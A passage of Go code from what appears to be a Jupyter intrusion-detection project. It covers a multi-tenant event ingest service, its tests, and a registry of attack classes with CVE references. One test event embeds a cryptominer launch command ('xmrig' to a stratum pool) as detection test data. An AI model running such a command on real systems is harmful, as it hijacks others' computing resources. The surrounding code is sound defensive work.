		t.Fatalf("store close: %v", err)
	}

	ro, err := evstore.OpenRead(dir)
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	if loss := ro.Recovered(); len(loss) != 0 {
		t.Fatalf("tail loss after clean drain: %+v", loss)
	}
	if got := ro.Events(); got != 57 {
		t.Fatalf("store holds %d events, want 57", got)
	}
}

// TestLiveVsReplayIncidentParity is the acceptance gate: an ingest
// session recorded to a store and replayed through a fresh engine
// must produce a byte-identical incident table to the live run.
func TestLiveVsReplayIncidentParity(t *testing.T) {
	kr := testKeyring(t, "acme", "globex")
	live := core.MustEngine()
	dir := t.TempDir()
	store, err := evstore.Open(dir, evstore.Options{})
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	svc, addr := startService(t, Config{Keyring: kr}, trace.Tee(live, store))

	base := time.Date(2026, 8, 8, 12, 0, 0, 0, time.UTC)
	mkAuthBurst := func(src string, n int) []trace.Event {
		var out []trace.Event
		for i := 0; i < n; i++ {
			out = append(out, trace.Event{
				Kind: trace.KindAuth, Time: base.Add(time.Duration(i) * time.Second),
				SrcIP: src, Op: "password", Success: false,
			})
		}
		return out
	}
	minerExec := trace.Event{
		Kind: trace.KindExec, Time: base.Add(time.Minute),
		KernelID: "k-7", User: "miner", Code: "import os; os.system('xmrig -o stratum+tcp://pool')",
	}

	// Both tenants attack from "the same" source address — the tenant
	// namespacing must keep them as two distinct actors and incidents.
	for _, tn := range []string{"acme", "globex"} {
		tok, _ := kr.Mint(tn)
		batch := append(mkAuthBurst("203.0.113.5", 10), minerExec)
		if resp, br := postBatch(t, addr, tn, tok, jsonlBody(t, batch...)); resp.StatusCode != 200 || br.Accepted != 11 {
			t.Fatalf("%s: ingest status=%d accepted=%d", tn, resp.StatusCode, br.Accepted)
		}
	}

	svc.Drain()
	if err := store.Close(); err != nil {
		t.Fatalf("store close: %v", err)
	}

	liveIncidents := live.Incidents()
	if len(liveIncidents) < 4 {
		t.Fatalf("live run produced %d incidents, want >=4 (bruteforce+miner per tenant)", len(liveIncidents))
	}
	liveTable := core.RenderTopIncidents(liveIncidents, 16)

	replayEng := core.MustEngine()
	ro, err := evstore.OpenRead(dir)
	if err != nil {
		t.Fatalf("reopen: %v", err)
	}
	stats, err := ro.Replay(evstore.Filter{}, 8, 32, func(b []trace.Event) {
		replayEng.ProcessBatch(b)
	})
	if err != nil {
		t.Fatalf("replay: %v", err)
	}
	if stats.Events != 22 {
		t.Fatalf("replayed %d events, want 22", stats.Events)
	}
	replayTable := core.RenderTopIncidents(replayEng.Incidents(), 16)
	if liveTable != replayTable {
		t.Errorf("live and replay incident tables differ:\n--- live ---\n%s\n--- replay ---\n%s", liveTable, replayTable)
	}
}

func TestStatsEndpointAndRender(t *testing.T) {
	kr := testKeyring(t, "alpha")
	svc, addr := startService(t, Config{Keyring: kr}, &collector{})
	tok, _ := kr.Mint("alpha")
	postBatch(t, addr, "alpha", tok, jsonlBody(t, trace.Event{Kind: trace.KindHTTP, SrcIP: "8.8.8.8"}))

	resp, err := http.Get("http://" + addr + "/stats")
	if err != nil {
		t.Fatalf("GET /stats: %v", err)
	}
	defer resp.Body.Close()
	var snap Snapshot
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		t.Fatalf("decode stats: %v", err)
	}
	if len(snap.Tenants) != 1 || snap.Tenants[0].Tenant != "alpha" || snap.Tenants[0].Accepted != 1 {
		t.Fatalf("stats = %+v", snap)
	}

	table := snap.RenderTenantTable()
	if !strings.Contains(table, "TENANT") || !strings.Contains(table, "alpha") {
		t.Errorf("tenant table missing fields:\n%s", table)
	}

	// healthz flips to 503 once draining.
	if resp, err := http.Get("http://" + addr + "/healthz"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("healthz before drain: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	svc.Drain()
	if !svc.Stats().Draining {
		t.Error("Stats().Draining = false after Drain")
	}
}
