// Package ingest is the multi-tenant live event front-end: a
// long-running service that accepts trace-event streams from
// thousands of concurrent agents over HTTP and WebSocket
// (internal/wsproto framing), authenticates every connection with
// per-tenant HMAC-SHA256 tokens (auth.Keyring), applies admission
// control and per-tenant token-bucket quotas, and routes accepted
// events through per-tenant bounded trace.Stages into whatever sink
// the deployment wires behind it — typically trace.Tee(core engine,
// evstore.Store), so events are detected live AND recorded for
// byte-identical offline replay.
//
// The scaling contract ("millions of users"): each tenant owns one
// single-worker bounded stage and one quota bucket, so a slow,
// flooding, or quota-exhausted tenant saturates only its own queue —
// under Block it stalls its own producers, under DropNewest it sheds
// its own events (counted) — and can never convoy another tenant.
// Actor keys are namespaced per tenant (stampTenant), which keeps the
// sharded core engine's per-actor serial-equivalence invariant intact
// across any number of connections.
//
// Shutdown is a drain, not a drop: Drain stops admitting (503s, WS
// close 1001), cancels blocked producers, waits for in-flight
// handlers, then closes every stage so queued events reach the sink
// before the caller flushes and closes the store.
package ingest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"repro/internal/auth"
	"repro/internal/trace"
	"repro/internal/wsproto"
)

// Config tunes the service. Zero values pick the defaults.
type Config struct {
	// Keyring authenticates tenants; required (no keyring = nobody
	// can connect — an ingest service never runs open).
	Keyring *auth.Keyring
	// MaxConns bounds concurrently admitted connections (live WS
	// conns + in-flight HTTP batches) across all tenants. Default
	// 4096; <0 disables the bound.
	MaxConns int
	// Queue is the per-tenant stage depth. Default 1024.
	Queue int
	// Policy is the default backpressure policy: Block (lossless,
	// producers stall) or DropNewest (lossy, producers never stall,
	// drops counted per tenant).
	Policy trace.DropPolicy
	// TenantPolicy overrides Policy per tenant.
	TenantPolicy map[string]trace.DropPolicy
	// Rate is the per-tenant event quota in events/sec (token
	// bucket); 0 = unlimited. Burst is the bucket depth (default
	// max(1, Rate)).
	Rate  float64
	Burst int
	// MaxMessage bounds one WebSocket message; oversize closes the
	// connection with code 1009. Default 1 MiB.
	MaxMessage int
	// MaxBody bounds one HTTP ingest request body. Default 8 MiB.
	MaxBody int64
	// Clock stamps events that arrive without a timestamp.
	Clock trace.Clock
}

func (c Config) withDefaults() Config {
	if c.MaxConns == 0 {
		c.MaxConns = 4096
	}
	if c.Queue <= 0 {
		c.Queue = 1024
	}
	if c.Burst <= 0 {
		c.Burst = int(c.Rate)
	}
	if c.Burst <= 0 {
		c.Burst = 1
	}
	if c.MaxMessage <= 0 {
		c.MaxMessage = 1 << 20
	}
	if c.MaxBody <= 0 {
		c.MaxBody = 8 << 20
	}
	if c.Clock == nil {
		c.Clock = trace.RealClock{}
	}
	return c
}

// Service is the ingest front-end. Create with New, serve with
// Start/Serve, stop with Drain.
type Service struct {
	cfg  Config
	sink trace.Sink

	ctx    context.Context
	cancel context.CancelFunc

	mu      sync.Mutex
	tenants map[string]*tenant
	wsConns map[*wsproto.Conn]struct{}

	// svcStage carries the service's own events (auth denials) so
	// they reach the engine and the store in one canonical order —
	// the same single-worker discipline the tenant streams get.
	svcStage *trace.Stage

	ln         net.Listener
	httpServer *http.Server

	seq       atomic.Uint64
	conns     atomic.Int64
	draining  atomic.Bool
	wg        sync.WaitGroup
	rejected  atomic.Uint64 // connections refused by admission control
	authFails atomic.Uint64
}

// New builds a Service delivering accepted events to sink.
func New(cfg Config, sink trace.Sink) *Service {
	cfg = cfg.withDefaults()
	if sink == nil {
		sink = trace.Discard
	}
	ctx, cancel := context.WithCancel(context.Background())
	return &Service{
		cfg:      cfg,
		sink:     sink,
		ctx:      ctx,
		cancel:   cancel,
		tenants:  map[string]*tenant{},
		wsConns:  map[*wsproto.Conn]struct{}{},
		svcStage: trace.NewStage(sink, 1, cfg.Queue, trace.Block),
	}
}

// tenantState returns (creating on first use) the state for an
// authenticated tenant.
func (s *Service) tenantState(name string) *tenant {
	s.mu.Lock()
	defer s.mu.Unlock()
	if ts, ok := s.tenants[name]; ok {
		return ts
	}
	policy := s.cfg.Policy
	if p, ok := s.cfg.TenantPolicy[name]; ok {
		policy = p
	}
	ts := &tenant{
		name:   name,
		policy: policy,
		stage:  trace.NewStage(s.sink, 1, s.cfg.Queue, policy),
		bucket: newTokenBucket(s.cfg.Rate, s.cfg.Burst),
	}
	s.tenants[name] = ts
	return ts
}

// Handler returns the service's HTTP mux:
//
//	POST /ingest     JSONL event batch (Authorization + X-Tenant)
//	GET  /ingest/ws  WebSocket upgrade; each message is a JSONL batch
//	GET  /stats      per-tenant counters, JSON
//	GET  /healthz    200 serving / 503 draining
func (s *Service) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/ingest", s.handleIngest)
	mux.HandleFunc("/ingest/ws", s.handleWS)
	mux.HandleFunc("/stats", s.handleStats)
	mux.HandleFunc("/healthz", s.handleHealth)
	return mux
}

// Start listens on addr and serves until Drain.
func (s *Service) Start(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("ingest: listen: %w", err)
	}
	return s.Serve(ln)
}

// Serve serves on an existing listener, returning the bound address.
func (s *Service) Serve(ln net.Listener) (string, error) {
	s.ln = ln
	s.httpServer = &http.Server{Handler: s.Handler()}
	go func() {
		err := s.httpServer.Serve(ln)
		if err != nil && !errors.Is(err, http.ErrServerClosed) && !errors.Is(err, net.ErrClosed) {
			_ = err // post-Drain accept errors are expected
		}
	}()
	return ln.Addr().String(), nil
}

// Drain performs the graceful shutdown contract: stop admitting new
// work (healthz 503, ingest 503, accepts stop), cancel producers
// blocked on quotas, close live WebSocket conns with 1001 going-away,
// wait for in-flight handlers, then close every stage so each queued
// event reaches the sink. After Drain returns, Stats() is final and
// the caller owns flushing/closing whatever the sink writes to.
// Idempotent.
func (s *Service) Drain() {
	if !s.draining.CompareAndSwap(false, true) {
		return
	}
	s.cancel()
	if s.ln != nil {
		_ = s.ln.Close()
	}
	s.mu.Lock()
	conns := make([]*wsproto.Conn, 0, len(s.wsConns))
	for c := range s.wsConns {
		conns = append(conns, c)
	}
	s.mu.Unlock()
	for _, c := range conns {
		_ = c.Close(wsproto.CloseGoingAway, "ingest draining")
	}
	s.wg.Wait()
	s.mu.Lock()
	tenants := make([]*tenant, 0, len(s.tenants))
	for _, ts := range s.tenants {
		tenants = append(tenants, ts)
	}
	s.mu.Unlock()
	for _, ts := range tenants {
		ts.stage.Close()
	}
	s.svcStage.Close()
}

// ---- admission & auth ----

// admit reserves a connection slot; release with done. It fails when
// draining or when MaxConns is reached.
func (s *Service) admit() (done func(), ok bool) {
	if s.draining.Load() {
		s.rejected.Add(1)
		return nil, false
	}
	if n := s.conns.Add(1); s.cfg.MaxConns > 0 && n > int64(s.cfg.MaxConns) {
		s.conns.Add(-1)
		s.rejected.Add(1)
		return nil, false
	}
	// Double-check after the reservation: a Drain between the flag
	// check and the Add must not strand a handler past wg.Wait.
	s.wg.Add(1)
	if s.draining.Load() {
		s.conns.Add(-1)
		s.wg.Done()
		s.rejected.Add(1)
		return nil, false
	}
	return func() {
		s.conns.Add(-1)
		s.wg.Done()
	}, true
}

// authenticate resolves the tenant from the request headers:
// X-Tenant names it, Authorization ("Bearer <tok>" or "token <tok>")
// proves it. Failures emit a KindAuth denial into the pipeline — the
// ingest service monitors itself, so a token brute-force against this
// endpoint trips the same AT-001 rule as one against a notebook
// server.
func (s *Service) authenticate(r *http.Request) (string, bool) {
	tenantName := r.Header.Get("X-Tenant")
	token := bearerToken(r.Header.Get("Authorization"))
	if s.cfg.Keyring == nil || tenantName == "" || token == "" ||
		!s.cfg.Keyring.Verify(tenantName, token) {
		s.authFails.Add(1)
		s.emitService(trace.Event{
			Kind:    trace.KindAuth,
			SrcIP:   "ingest/" + remoteIP(r),
			Op:      string(auth.DecisionDeny),
			Success: false,
			Detail:  "ingest: bad tenant token",
		})
		return "", false
	}
	return tenantName, true
}

func bearerToken(header string) string {
	for _, prefix := range []string{"Bearer ", "bearer ", "token "} {
		if strings.HasPrefix(header, prefix) {
			return strings.TrimSpace(header[len(prefix):])
		}
	}
	return ""
}

func remoteIP(r *http.Request) string {
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}

// emitService routes a service-originated event through the dedicated
// single-worker stage, keeping its per-actor order identical between
// the live engine and the recorded store.
func (s *Service) emitService(e trace.Event) {
	s.svcStage.Emit(s.stamp(e))
}

// stamp finalizes an event for the pipeline: a fresh service-wide
// sequence number (the store's append order is the replay order) and
// a timestamp when the agent supplied none.
func (s *Service) stamp(e trace.Event) trace.Event {
	e.Seq = s.seq.Add(1)
	if e.Time.IsZero() {
		e.Time = s.cfg.Clock.Now()
	}
	return e
}

// ---- handlers ----

func (s *Service) handleHealth(w http.ResponseWriter, r *http.Request) {
	if s.draining.Load() {
		http.Error(w, "draining", http.StatusServiceUnavailable)
		return
	}
	w.WriteHeader(http.StatusOK)
	_, _ = io.WriteString(w, "ok\n")
}

// batchResponse is the HTTP ingest reply: what this request did, plus
// the tenant's cumulative stage/quota counters so an agent can watch
// its own loss budget without polling /stats.
type batchResponse struct {
	Tenant   string `json:"tenant"`
	Accepted int    `json:"accepted"`
	Denied   int    `json:"denied"`
	Dropped  uint64 `json:"dropped_total"`
	DeniedT  uint64 `json:"denied_total"`
}

func (s *Service) handleIngest(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST only", http.StatusMethodNotAllowed)
		return
	}
	tenantName, ok := s.authenticate(r)
	if !ok {
		http.Error(w, "invalid tenant token", http.StatusUnauthorized)
		return
	}
	done, ok := s.admit()
	if !ok {
		http.Error(w, "ingest at capacity or draining", http.StatusServiceUnavailable)
		return
	}
	defer done()
	ts := s.tenantState(tenantName)
	ts.conns.Add(1)
	defer ts.conns.Add(-1)

	resp := batchResponse{Tenant: tenantName}
	dec := trace.NewDecoder(io.LimitReader(r.Body, s.cfg.MaxBody))
	for {
		e, err := dec.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			// Reject the remainder but report what was admitted: the
			// agent retries from its own cursor, not from zero.
			writeJSON(w, http.StatusBadRequest, map[string]any{
				"error": err.Error(), "accepted": resp.Accepted, "denied": resp.Denied,
			})
			return
		}
		switch ts.ingest(r.Context(), s.stamp(stampTenant(tenantName, e))) {
		case resAccepted:
			resp.Accepted++
		case resDenied:
			resp.Denied++
		}
	}
	resp.Dropped = ts.stage.Dropped()
	resp.DeniedT = ts.denied.Load()
	status := http.StatusOK
	if resp.Denied > 0 {
		status = http.StatusTooManyRequests
	}
	writeJSON(w, status, resp)
}

func (s *Service) handleWS(w http.ResponseWriter, r *http.Request) {
	tenantName, ok := s.authenticate(r)
	if !ok {
		http.Error(w, "invalid tenant token", http.StatusUnauthorized)
		return
	}
	done, ok := s.admit()
	if !ok {
		http.Error(w, "ingest at capacity or draining", http.StatusServiceUnavailable)
		return
	}
	defer done()
	conn, err := wsproto.UpgradeLimit(w, r, s.cfg.MaxMessage)
	if err != nil {
		return // Upgrade already wrote the HTTP error
	}
	s.mu.Lock()
	s.wsConns[conn] = struct{}{}
	s.mu.Unlock()
	defer func() {
		s.mu.Lock()
		delete(s.wsConns, conn)
		s.mu.Unlock()
	}()
	ts := s.tenantState(tenantName)
	ts.conns.Add(1)
	defer ts.conns.Add(-1)

	for {
		_, payload, err := conn.ReadMessage()
		if err != nil {
			if errors.Is(err, wsproto.ErrClosed) {
				// Peer-initiated close: ReadMessage already echoed the
				// close frame; just release the transport.
				_ = conn.Close(wsproto.CloseNormal, "")
				return
			}
			// RFC discipline on the server side: unmasked client
			// frames, oversized messages, fragment violations each get
			// their mandated close code rather than a TCP reset.
			_ = conn.Close(wsproto.CloseCodeForError(err), "protocol error")
			return
		}
		dec := trace.NewDecoder(strings.NewReader(string(payload)))
		for {
			e, derr := dec.Next()
			if derr == io.EOF {
				break
			}
			if derr != nil {
				_ = conn.Close(wsproto.CloseInvalidPayload, "bad event JSON")
				return
			}
			ts.ingest(s.ctx, s.stamp(stampTenant(tenantName, e)))
		}
	}
}

func (s *Service) handleStats(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.Stats())
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

// ---- stats ----

// TenantStats is one tenant's counter snapshot. After Drain,
// Processed == Accepted and the accounting identity
// submitted == Accepted + Dropped + Denied holds exactly.
type TenantStats struct {
	Tenant    string `json:"tenant"`
	Conns     int64  `json:"conns"`
	Accepted  uint64 `json:"accepted"`
	Processed uint64 `json:"processed"`
	Pending   int    `json:"pending"`
	Dropped   uint64 `json:"dropped"`
	Denied    uint64 `json:"denied"`
	Policy    string `json:"policy"`
}

// Snapshot is the service-wide counter snapshot served at /stats and
// rendered at shutdown. Tenants are sorted by name, so two snapshots
// of the same state render identically.
type Snapshot struct {
	Draining      bool          `json:"draining"`
	Conns         int64         `json:"conns"`
	RejectedConns uint64        `json:"rejected_conns"`
	AuthFailures  uint64        `json:"auth_failures"`
	Tenants       []TenantStats `json:"tenants"`
}

// Stats snapshots every counter.
func (s *Service) Stats() Snapshot {
	s.mu.Lock()
	tenants := make([]*tenant, 0, len(s.tenants))
	for _, ts := range s.tenants {
		tenants = append(tenants, ts)
	}
	s.mu.Unlock()
	snap := Snapshot{
		Draining:      s.draining.Load(),
		Conns:         s.conns.Load(),
		RejectedConns: s.rejected.Load(),
		AuthFailures:  s.authFails.Load(),
	}
	for _, ts := range tenants {
		snap.Tenants = append(snap.Tenants, TenantStats{
			Tenant:    ts.name,
			Conns:     ts.conns.Load(),
			Accepted:  ts.stage.Accepted(),
			Processed: ts.stage.Processed(),
			Pending:   ts.stage.Pending(),
			Dropped:   ts.stage.Dropped(),
			Denied:    ts.denied.Load(),
			Policy:    ts.policy.String(),
		})
	}
	sort.Slice(snap.Tenants, func(i, j int) bool {
		return snap.Tenants[i].Tenant < snap.Tenants[j].Tenant
	})
	return snap
}

// RenderTenantTable renders the per-tenant counters as the aligned
// table jingestd prints on shutdown.
func (sn Snapshot) RenderTenantTable() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-16s %6s %10s %10s %8s %8s %12s\n",
		"TENANT", "CONNS", "ACCEPTED", "PROCESSED", "DROPPED", "DENIED", "POLICY")
	for _, t := range sn.Tenants {
		fmt.Fprintf(&b, "%-16s %6d %10d %10d %8d %8d %12s\n",
			t.Tenant, t.Conns, t.Accepted, t.Processed, t.Dropped, t.Denied, t.Policy)
	}
	return b.String()
}
