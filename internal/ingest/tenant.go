package ingest

import (
	"context"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/trace"
)

// tenant is the per-tenant admission and backpressure state: a bounded
// single-worker trace.Stage into the shared downstream sink, a
// token-bucket event quota, and drop/denial accounting. One stage per
// tenant is the isolation mechanism — a slow or abusive tenant fills
// (or blocks on) its own queue while every other tenant's stage keeps
// draining at full speed.
//
// The stage runs exactly one worker so a tenant's accepted events
// reach the downstream sink in arrival order. Combined with
// tenant-namespaced actor keys (stampTenant) this preserves the
// pipeline-v2 per-actor serial-equivalence invariant: every actor
// belongs to one tenant, so its events flow through one stage, in
// order, no matter how many connections the tenant has open.
type tenant struct {
	name   string
	policy trace.DropPolicy
	stage  *trace.Stage
	bucket *tokenBucket

	conns  atomic.Int64
	denied atomic.Uint64 // events refused by the quota (or at drain)
}

// ingestResult classifies what happened to one submitted event.
type ingestResult int

const (
	resAccepted ingestResult = iota // enqueued (may still drop in-stage under DropNewest)
	resDenied                       // refused by the quota before enqueueing
)

// ingest admits one already-stamped event. Under Block the call
// applies backpressure end to end: it waits for quota tokens and for
// queue space, so nothing is ever lost (a cancelled ctx — client gone
// or service draining — counts the event as denied). Under DropNewest
// it never blocks: quota exhaustion denies the event, a full queue
// drops it inside the stage, and both are counted per tenant.
func (ts *tenant) ingest(ctx context.Context, e trace.Event) ingestResult {
	if ts.policy == trace.Block {
		if err := ts.bucket.Wait(ctx); err != nil {
			ts.denied.Add(1)
			return resDenied
		}
		ts.stage.Emit(e)
		return resAccepted
	}
	if !ts.bucket.Allow() {
		ts.denied.Add(1)
		return resDenied
	}
	ts.stage.Emit(e)
	return resAccepted
}

// stampTenant rewrites an inbound event into the tenant's namespace:
// every identity field that can become a trace.ActorKey (user, source
// address, kernel) is prefixed "tenant/", and an event carrying no
// identity at all is attributed to the tenant itself. Two tenants can
// therefore never share an actor key — detector and correlation state
// stay tenant-scoped, and the namespacing is recorded in the store, so
// an offline replay reconstructs the exact same actors as the live
// run.
func stampTenant(name string, e trace.Event) trace.Event {
	if e.User != "" {
		e.User = name + "/" + e.User
	}
	if e.SrcIP != "" {
		e.SrcIP = name + "/" + e.SrcIP
	}
	if e.KernelID != "" {
		e.KernelID = name + "/" + e.KernelID
	}
	if e.User == "" && e.SrcIP == "" && e.KernelID == "" {
		e.User = name + "/-"
	}
	return e
}

// tokenBucket is the fleet sweep's context-aware rate limiter idiom,
// applied per tenant: rate tokens/sec with a burst ceiling, Wait for
// blocking admission, Allow for the non-blocking drop path. rate <= 0
// means unlimited.
type tokenBucket struct {
	mu     sync.Mutex
	rate   float64
	burst  float64
	tokens float64
	last   time.Time
}

func newTokenBucket(rate float64, burst int) *tokenBucket {
	if burst <= 0 {
		burst = 1
	}
	return &tokenBucket{
		rate:   rate,
		burst:  float64(burst),
		tokens: float64(burst),
		last:   time.Now(),
	}
}

// Allow takes a token if one is available, without blocking.
func (tb *tokenBucket) Allow() bool {
	if tb.rate <= 0 {
		return true
	}
	tb.mu.Lock()
	defer tb.mu.Unlock()
	tb.refillLocked()
	if tb.tokens >= 1 {
		tb.tokens--
		return true
	}
	return false
}

// Wait blocks until a token is available or ctx is cancelled.
func (tb *tokenBucket) Wait(ctx context.Context) error {
	if tb.rate <= 0 {
		return ctx.Err()
	}
	for {
		tb.mu.Lock()
		tb.refillLocked()
		if tb.tokens >= 1 {
			tb.tokens--
			tb.mu.Unlock()
			return nil
		}
		wait := time.Duration((1 - tb.tokens) / tb.rate * float64(time.Second))
		tb.mu.Unlock()
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(wait):
		}
	}
}

func (tb *tokenBucket) refillLocked() {
	now := time.Now()
	tb.tokens += now.Sub(tb.last).Seconds() * tb.rate
	if tb.tokens > tb.burst {
		tb.tokens = tb.burst
	}
	tb.last = now
}
