package taxonomy

import (
	"encoding/json"
	"strings"
	"testing"

	"repro/internal/oscrp"
	"repro/internal/rules"
)

func TestDefaultRegistryValid(t *testing.T) {
	if err := Default().Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestFig1ClassesComplete(t *testing.T) {
	r := Default()
	// The paper's abstract + Fig. 1 enumerate these classes.
	for _, c := range []Class{
		Ransomware, Exfiltration, Cryptomining, Misconfig,
		AccountTakeover, DoS, ZeroDay,
	} {
		e := r.ByClass(c)
		if e == nil {
			t.Errorf("class %s missing", c)
			continue
		}
		if e.SimulatedBy == "" {
			t.Errorf("class %s has no attack simulator", c)
		}
	}
	if len(r.Classes()) != 7 {
		t.Fatalf("classes = %v", r.Classes())
	}
}

func TestClassIdentifiersMatchRulesPackage(t *testing.T) {
	pairs := map[Class]string{
		Ransomware:      rules.ClassRansomware,
		Exfiltration:    rules.ClassExfiltration,
		Cryptomining:    rules.ClassCryptomining,
		Misconfig:       rules.ClassMisconfig,
		AccountTakeover: rules.ClassAccountTakeover,
		DoS:             rules.ClassDoS,
		ZeroDay:         rules.ClassZeroDay,
	}
	for tc, rc := range pairs {
		if string(tc) != rc {
			t.Errorf("taxonomy %q != rules %q", tc, rc)
		}
	}
}

func TestClassIdentifiersMatchOSCRP(t *testing.T) {
	r := Default()
	for _, e := range r.Entries {
		if _, ok := oscrp.AvenueForClass(string(e.Class)); !ok {
			t.Errorf("class %s has no OSCRP avenue", e.Class)
		}
	}
}

func TestDetectionCoverageReferencesRealRules(t *testing.T) {
	known := map[string]bool{}
	for _, id := range rules.BuiltinRuleIDs() {
		known[id] = true
	}
	// Anomaly detectors and scanner names count as coverage too.
	for _, extra := range []string{
		"anomaly.ransomware", "anomaly.exfil", "anomaly.miner",
		"anomaly.lowslow", "misconfig.Scanner",
	} {
		known[extra] = true
	}
	for _, e := range Default().Entries {
		for _, d := range e.DetectedBy {
			if !known[d] {
				t.Errorf("class %s references unknown detector %q", e.Class, d)
			}
		}
	}
}

func TestEntryInterfacesCoverPaperSurface(t *testing.T) {
	seen := map[EntryInterface]bool{}
	for _, e := range Default().Entries {
		for _, ei := range e.Entries {
			seen[ei] = true
		}
	}
	// "its vast attack interface (terminal, file browser, untrusted cells)"
	for _, want := range []EntryInterface{EntryTerminal, EntryFileBrowser, EntryUntrustedCell} {
		if !seen[want] {
			t.Errorf("entry interface %s unused", want)
		}
	}
}

func TestWildVsInternalBranches(t *testing.T) {
	r := Default()
	wild, internal := 0, 0
	for _, e := range r.Entries {
		if e.ObservedInWild {
			wild++
		} else {
			internal++
		}
	}
	if wild == 0 || internal == 0 {
		t.Fatalf("branches: wild=%d internal=%d (Fig. 1 has both)", wild, internal)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	data, err := Default().JSON()
	if err != nil {
		t.Fatal(err)
	}
	var back Registry
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if err := back.Validate(); err != nil {
		t.Fatal(err)
	}
	if len(back.Entries) != len(Default().Entries) {
		t.Fatal("entries lost in round trip")
	}
}

func TestRenderFig1(t *testing.T) {
	text := Default().Render()
	for _, want := range []string{
		"Attacks in the wild:", "Internally identified",
		"ransomware", "cryptomining", "kill chain",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestValidateCatchesProblems(t *testing.T) {
	r := &Registry{}
	if err := r.Validate(); err == nil {
		t.Fatal("empty registry accepted")
	}
	r = Default()
	r.Entries = append(r.Entries, r.Entries[0])
	if err := r.Validate(); err == nil {
		t.Fatal("duplicate class accepted")
	}
	r2 := Default()
	r2.Entries[0].DetectedBy = nil
	if err := r2.Validate(); err == nil {
		t.Fatal("uncovered class accepted")
	}
}

func TestCVEReferences(t *testing.T) {
	// The paper cites these CVEs; the taxonomy must carry them.
	all := Default()
	var refs []string
	for _, e := range all.Entries {
		refs = append(refs, e.References...)
	}
	joined := strings.Join(refs, " ")
	for _, cve := range []string{"CVE-2024-22415", "CVE-2020-16977", "CVE-2021-32798"} {
		if !strings.Contains(joined, cve) {
			t.Errorf("reference %s missing", cve)
		}
	}
}
