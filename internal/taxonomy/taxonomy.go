// Package taxonomy is the registry of Jupyter attack classes from the
// paper's Fig. 1: each class carries its entry interfaces (terminal,
// file browser, untrusted cells, network API), kill-chain stages,
// public references (CVEs, incident write-ups), and the detection
// coverage this repository provides. The package regenerates Fig. 1
// as a machine-readable report.
package taxonomy

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
)

// Class identifies an attack class. Values are shared with
// rules.Class* and oscrp.Avenue* constants.
type Class string

// Attack classes from Fig. 1.
const (
	Ransomware      Class = "ransomware"
	Exfiltration    Class = "data_exfiltration"
	Cryptomining    Class = "cryptomining"
	Misconfig       Class = "security_misconfiguration"
	AccountTakeover Class = "account_takeover"
	DoS             Class = "denial_of_service"
	ZeroDay         Class = "zero_day"
)

// EntryInterface is a Jupyter attack-surface component.
type EntryInterface string

// The paper's "vast attack interface".
const (
	EntryTerminal      EntryInterface = "terminal"
	EntryFileBrowser   EntryInterface = "file_browser"
	EntryUntrustedCell EntryInterface = "untrusted_cell"
	EntryRESTAPI       EntryInterface = "rest_api"
	EntryWebSocket     EntryInterface = "websocket_channel"
	EntryAuthSurface   EntryInterface = "auth_surface"
)

// Stage is a kill-chain stage.
type Stage string

// Kill-chain stages used in entries.
const (
	StageRecon          Stage = "reconnaissance"
	StageInitialAccess  Stage = "initial_access"
	StageExecution      Stage = "execution"
	StagePersistence    Stage = "persistence"
	StageImpact         Stage = "impact"
	StageExfiltration   Stage = "exfiltration"
	StageResourceAbuse  Stage = "resource_abuse"
	StageDefenseEvasion Stage = "defense_evasion"
)

// Entry is one taxonomy node (one box of Fig. 1).
type Entry struct {
	Class       Class            `json:"class"`
	Title       string           `json:"title"`
	Description string           `json:"description"`
	Entries     []EntryInterface `json:"entry_interfaces"`
	Stages      []Stage          `json:"kill_chain"`
	References  []string         `json:"references"`
	// ObservedInWild reflects Fig. 1's "attacks in the wild" branch
	// versus internally identified issues.
	ObservedInWild bool `json:"observed_in_wild"`
	// DetectedBy lists rule ids and detector names covering the class.
	DetectedBy []string `json:"detected_by"`
	// SimulatedBy names the attack driver reproducing the class.
	SimulatedBy string `json:"simulated_by"`
}

// Registry is the full taxonomy.
type Registry struct {
	Entries []Entry `json:"entries"`
}

// Default returns the taxonomy exactly as enumerated in the paper:
// the Fig. 1 / abstract classes with their public references.
func Default() *Registry {
	return &Registry{Entries: []Entry{
		{
			Class: Ransomware,
			Title: "Notebook and dataset ransomware",
			Description: "Arbitrary code execution in a kernel encrypts notebooks, " +
				"training data, and model checkpoints reachable from the contents " +
				"API, then plants a ransom note.",
			Entries:        []EntryInterface{EntryUntrustedCell, EntryRESTAPI, EntryFileBrowser},
			Stages:         []Stage{StageInitialAccess, StageExecution, StageImpact},
			References:     []string{"arXiv:2409.19456 §III", "Trusted CI OSCRP"},
			ObservedInWild: true,
			DetectedBy: []string{"RW-001-encrypt-call", "RW-002-ransom-note",
				"RW-003-bulk-highentropy-writes", "RW-004-extension-churn",
				"anomaly.ransomware"},
			SimulatedBy: "attacks.Ransomware",
		},
		{
			Class: Exfiltration,
			Title: "Research artifact exfiltration",
			Description: "Kernel code reads state-of-the-art models and data and " +
				"ships them to attacker infrastructure, frequently base64-packed " +
